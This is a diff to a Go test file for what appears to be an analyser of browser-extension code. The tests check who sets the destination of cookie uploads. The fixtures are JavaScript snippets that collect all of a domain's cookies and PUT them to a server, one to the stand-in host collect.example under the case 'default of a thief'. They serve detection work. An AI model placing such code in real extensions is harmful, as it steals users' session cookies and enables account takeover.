@@ -105,10 +105,15 @@ func TestTypedAddresses(t *testing.T) {
 	const options = `const f = document.getElementById("f"); f.onsubmit = () => chrome.storage.local.set({server: f.elements.server.value.replace(/\/$/, "")});`
 	const send = `const conf = () => chrome.storage.local.get(["server", "every"]); async function up() { const {server} = await conf(); const list = await chrome.cookies.getAll({domain: name()});
 		await fetch(server + "/jar", {method: "PUT", body: JSON.stringify(list)}) } chrome.alarms.onAlarm.addListener(up);`
+	const hand = `document.getElementById("go").onclick = () => chrome.runtime.sendMessage({server: document.getElementById("server").value});`
+	const keep = `let to; chrome.runtime.onMessage.addListener(m => { to = m.server }); chrome.alarms.onAlarm.addListener(async () => {
+		const list = await chrome.cookies.getAll({domain: name()}); fetch(ADDRESS + "/jar", {method: "PUT", body: JSON.stringify(list)}) });`
 	for name, c := range map[string]struct {
 		options, background string
 		want                Party
 	}{
+		"handed on":          {hand, strings.Replace(keep, "ADDRESS", "to", 1), User},
+		"a path handed on":   {hand, strings.Replace(keep, "ADDRESS", `base() + "/" + to`, 1), Unknown},
 		"typed":              {options, send, User},
 		"typed in before":    {options, `up(); ` + send, User},
 		"default of a thief": {options, send + `chrome.storage.local.set({server: "https://collect.example"})`, "none"},
